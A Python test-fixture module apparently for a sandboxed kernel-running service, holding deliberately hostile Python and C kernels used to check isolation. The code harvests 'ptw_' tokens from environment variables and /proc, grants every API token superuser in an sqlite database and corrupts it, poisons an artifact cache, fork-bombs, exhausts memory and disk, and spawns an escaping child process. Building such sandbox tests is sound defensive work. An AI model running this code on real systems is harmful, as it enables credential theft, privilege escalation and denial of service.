"""Hostile kernels, as a member of another team would write them: python objectives (inline
source) and C kernels for the cpu backend. Each prints what it found or did as one line
`REPORT {json}` into its trial's log (what the attacker, owner of the study, gets to read),
so a test can check that nothing secret is in it."""

from __future__ import annotations

from typing import Any

from wire.kernels import get_builtin

PYTHON = r'''
import glob, json, os, socket, sqlite3, sys, time

TARGETS = __TARGETS__


def _read(path, limit=65536):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except Exception as exc:
        return "<%s>" % type(exc).__name__


def _report(found):
    print("REPORT " + json.dumps(found, default=str), flush=True)


def steal(config):
    """The worker's token (they start with ptw_): environment, every /proc/*/cmdline and
    environ, the token file, the agent's cache, work and data directories. The report keeps
    what was readable and where it found a token (the log excerpt is short)."""
    sources = {"env": "\n".join("%s=%s" % item for item in os.environ.items())}
    for proc in glob.glob("/proc/[0-9]*"):
        for part in ("cmdline", "environ"):
            sources[proc + "/" + part] = _read(proc + "/" + part)
    sources["token_file"] = _read(TARGETS["token_file"])
    for root in (TARGETS["cache"], TARGETS["work"], TARGETS["data"]):
        for directory, _, names in os.walk(root):
            for name in names:
                sources[os.path.join(directory, name)] = _read(os.path.join(directory, name))
    readable = sorted(k for k, v in sources.items() if not v.startswith("<"))
    _report({
        "hits": dict(sorted((k, v[:100]) for k, v in sources.items() if "ptw_" in v)[:10]),
        "processes": len(glob.glob("/proc/[0-9]*")),
        "readable": readable[:40],
        "token_file": sources["token_file"][:40],
        "env_keys": sorted(os.environ),
        "dirs_visible": [root for root in (TARGETS["cache"], TARGETS["work"], TARGETS["data"]) if os.path.isdir(root)],
        "uid": os.getuid(),
    })
    return {"f1": 1.0}


def database(config):
    """Make every token of the embedded service a superuser, then scribble on the file."""
    found = {}
    try:
        connection = sqlite3.connect("file:%s?mode=rw" % TARGETS["db"], uri=True)
        connection.execute("UPDATE api_tokens SET superuser = 1")
        connection.commit()
        found["update"] = "done"
    except Exception as exc:
        found["update"] = "<%s: %s>" % (type(exc).__name__, exc)
    try:
        with open(TARGETS["db"], "r+b") as handle:
            handle.seek(4096)
            handle.write(b"\xff" * 4096)
        found["scribble"] = "done"
    except Exception as exc:
        found["scribble"] = "<%s: %s>" % (type(exc).__name__, exc)
    found["read"] = _read(TARGETS["db"], 100)
    _report(found)
    return {"f1": 1.0}


def poison(config):
    """Overwrite every file of the artifact cache it can reach."""
    found = {"overwritten": [], "refused": []}
    for directory, _, names in os.walk(TARGETS["cache"]):
        for name in names:
            path = os.path.join(directory, name)
            try:
                with open(path, "r+b") as handle:
                    handle.write(b"POISONED")
                found["overwritten"].append(path)
            except Exception as exc:
                found["refused"].append("%s: %s" % (path, type(exc).__name__))
    found["cache_visible"] = os.path.isdir(TARGETS["cache"])
    _report(found)
    return {"f1": 1.0}


def network(config):
    """Talk to the control plane directly."""
    found = {}
    try:
        with socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=3) as connection:
            connection.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
            found["reply"] = connection.recv(200).decode("utf-8", "replace")
    except Exception as exc:
        found["reply"] = "<%s: %s>" % (type(exc).__name__, exc)
    _report(found)
    return {"f1": 1.0}


def fork_bomb(config):
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)


def allocate(config):
    block = bytearray(20 << 30)  # 20 GiB
    return {"f1": float(len(block))}


def big_file(config):
    chunk = b"x" * (64 << 20)
    with open("big.bin", "wb") as handle:
        for _ in range(80):  # 5 GiB
            handle.write(chunk)
    return {"f1": 1.0}


def fill_disk(config):
    chunk = b"x" * (16 << 20)
    for index in range(320):  # 5 GiB in files under any per-file limit
        with open("part%d.bin" % index, "wb") as handle:
            handle.write(chunk)
    return {"f1": 1.0}


def escape(config):
    """A setsid double-forked child meant to outlive its trial."""
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", TARGETS["marker"]])
        os._exit(0)
    os.waitpid(child, 0)
    time.sleep(0.2)
    _report({"escaped": True})
    return {"f1": 1.0}


def honest(config):
    return {"f1": 0.5}
'''

C_ATTACKS = r'''
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

extern char **environ;

static int readable = 0;

static void dump(const char *path) {  /* counts what it could read; prints what holds a token */
    char buffer[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, buffer, sizeof buffer - 1);
    close(fd);
    if (n < 0) return;
    readable++;
    for (ssize_t i = 0; i < n; i++) if (buffer[i] == 0) buffer[i] = ' ';
    buffer[n] = 0;
    if (strstr(buffer, "ptw_")) fprintf(stderr, "REPORT-C token in %s: %s\n", path, buffer);
}

static void poison_tree(const char *root, int depth) {
    DIR *dir = opendir(root);
    if (!dir) { fprintf(stderr, "REPORT-C cannot list %s\n", root); return; }
    struct dirent *entry;
    char path[4096];
    while ((entry = readdir(dir))) {
        if (entry->d_name[0] == '.' && (entry->d_name[1] == 0 || entry->d_name[1] == '.')) continue;
        snprintf(path, sizeof path, "%s/%s", root, entry->d_name);
        struct stat info;
        if (lstat(path, &info) != 0) continue;
        if (S_ISDIR(info.st_mode) && depth < 4) { poison_tree(path, depth + 1); continue; }
        int fd = open(path, O_WRONLY);
        if (fd >= 0) { write(fd, "POISONED", 8); close(fd); fprintf(stderr, "REPORT-C poisoned %s\n", path); }
    }
    closedir(dir);
}

__attribute__((constructor)) static void attack(void) {
#if ATTACK == 1   /* the token */
    for (char **e = environ; *e; e++) if (strstr(*e, "ptw_")) fprintf(stderr, "REPORT-C token in env %s\n", *e);
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    char path[512];
    while (proc && (entry = readdir(proc))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name); dump(path);
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name); dump(path);
    }
    if (proc) closedir(proc);
    dump(TOKEN_FILE);
    fprintf(stderr, "REPORT-C read %d files\n", readable);
#elif ATTACK == 2 /* the artifact cache */
    poison_tree(CACHE_DIR, 0);
#elif ATTACK == 3 /* an escaping child */
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            execl("/bin/sh", "sh", "-c", "sleep 600; : " MARKER, (char *)0);
        }
        _exit(0);
    }
#elif ATTACK == 4 /* 20 GB */
    size_t size = (size_t)20 << 30;
    volatile char *block = malloc(size);
    for (size_t i = 0; i < size; i += 4096) block[i] = 1;  /* every page, for real */
    fprintf(stderr, "REPORT-C allocated %zu\n", size);
#endif
}
'''

# The built-in matmul: what an honest kernel computes (and what every attack above returns).
GOOD_MATMUL = get_builtin("cpu", "matmul").read_source()  # type: ignore[union-attr]

# Returns wrong results and says so: what a poisoned library would run instead.
POISONED_MATMUL = r'''
#include <stdio.h>
void matmul(int M, int N, int K, const float *A, const float *B, float *C) {
    fprintf(stderr, "POISON RAN\n");
    for (int i = 0; i < M * N; i++) C[i] = 0.0f;
}
'''


def python_source(**targets: Any) -> str:
    return PYTHON.replace("__TARGETS__", repr(targets))


def c_source(attack: int, *, token_file: str = "", cache_dir: str = "", marker: str = "") -> str:
    defines = (f"#define ATTACK {attack}\n#define TOKEN_FILE {token_file!r}\n#define CACHE_DIR {cache_dir!r}\n"
               f"#define MARKER {marker!r}\n").replace("'", '"')
    return defines + C_ATTACKS + GOOD_MATMUL


def reports(log: str) -> list[dict[str, Any]]:
    import json

    return [json.loads(line.split("REPORT ", 1)[1]) for line in log.splitlines() if line.startswith("REPORT ")]
